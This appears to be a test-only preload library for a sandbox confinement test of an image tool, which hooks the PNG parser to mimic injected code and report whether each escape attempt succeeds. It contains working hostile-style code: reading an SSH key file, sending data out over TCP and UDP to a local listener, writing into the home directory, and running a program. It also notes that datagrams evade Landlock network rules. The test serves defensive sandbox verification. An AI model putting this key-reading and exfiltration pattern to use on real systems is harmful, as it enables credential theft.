// Preloaded into shotsieve by the confinement test: the first time a PNG
// parser starts in a process, it does what code injected into an image parser
// would, and says on standard error how each attempt went. HOSTILE_PORT names
// a listener on 127.0.0.1. With FAILING_SYNC set instead, it is a disk whose
// syncs fail, for the fault tests. Test-only: never installed.
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dlfcn.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <png.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

static void report(const char* attempt, int succeeded, int error) {
  dprintf(2, "hostile %d: %s: %s\n", (int)getpid(), attempt, succeeded ? "succeeded" : strerror(error));
}

static void readSecret(const char* home) {
  char path[4096];
  snprintf(path, sizeof path, "%s/.ssh/id_test", home);
  const int fd = open(path, O_RDONLY | O_CLOEXEC);
  char bytes[64];
  const ssize_t got = fd >= 0 ? read(fd, bytes, sizeof bytes) : -1;
  report("read-secret", got > 0, errno);
  if (fd >= 0) close(fd);
}

static void sendOut(const char* port) {
  struct sockaddr_in address = {0};
  address.sin_family = AF_INET;
  address.sin_port = htons((unsigned short)atoi(port));
  address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  const int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
  const int connected = fd >= 0 && connect(fd, (struct sockaddr*)&address, sizeof address) == 0;
  report("connect", connected && send(fd, "stolen", 6, MSG_NOSIGNAL) == 6, errno);
  if (fd >= 0) close(fd);
  // A datagram needs no connection, which Landlock's network rules do not cover.
  const int datagrams = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
  const ssize_t sent =
      datagrams < 0 ? -1 : sendto(datagrams, "stolen", 6, 0, (struct sockaddr*)&address, sizeof address);
  report("datagram", sent == 6, errno);
  if (datagrams >= 0) close(datagrams);
}

static void writeHome(const char* home) {
  char path[4096];
  snprintf(path, sizeof path, "%s/pwned", home);
  const int fd = open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0600);
  report("write-home", fd >= 0, errno);
  if (fd >= 0) close(fd);
}

// The export folder may be written, but only with files of its own.
static void makeFolder(const char* exports) {
  char path[4096];
  snprintf(path, sizeof path, "%s/hostile-folder", exports);
  report("make-folder", mkdir(path, 0700) == 0, errno);
}

static void runProgram(void) {
  const pid_t child = fork();
  if (child == 0) {
    char* const argv[] = {"/bin/true", NULL};
    execv("/bin/true", argv);
    _exit(100 + errno % 100);
  }
  int status = 0;
  const int ran = child > 0 && waitpid(child, &status, 0) == child && WIFEXITED(status) && WEXITSTATUS(status) == 0;
  report("exec", ran, child < 0 ? errno : WIFEXITED(status) ? WEXITSTATUS(status) - 100 : 0);
}

__attribute__((visibility("default"))) png_structp png_create_read_struct(png_const_charp version, png_voidp error, png_error_ptr onError, png_error_ptr onWarning) {
  static atomic_flag done = ATOMIC_FLAG_INIT;
  const char* port = getenv("HOSTILE_PORT");
  if (port != NULL && !atomic_flag_test_and_set(&done)) {
    const int saved = errno;
    const char* home = getenv("HOME");
    if (home != NULL) readSecret(home);
    sendOut(port);
    if (home != NULL) writeHome(home);
    const char* exports = getenv("HOSTILE_EXPORT");
    if (exports != NULL) makeFolder(exports);
    runProgram();
    errno = saved;
  }
  png_structp (*real)(png_const_charp, png_voidp, png_error_ptr, png_error_ptr) =
      (png_structp(*)(png_const_charp, png_voidp, png_error_ptr, png_error_ptr))dlsym(RTLD_NEXT, "png_create_read_struct");
  return real(version, error, onError, onWarning);
}

static int failingSync(void) {
  errno = EIO;
  return -1;
}

__attribute__((visibility("default"))) int sync_file_range(int fd, off64_t offset, off64_t count, unsigned int flags) {
  if (getenv("FAILING_SYNC") != NULL) return failingSync();
  int (*real)(int, off64_t, off64_t, unsigned int) =
      (int (*)(int, off64_t, off64_t, unsigned int))dlsym(RTLD_NEXT, "sync_file_range");
  return real(fd, offset, count, flags);
}

__attribute__((visibility("default"))) int fsync(int fd) {
  if (getenv("FAILING_SYNC") != NULL) return failingSync();
  int (*real)(int) = (int (*)(int))dlsym(RTLD_NEXT, "fsync");
  return real(fd);
}
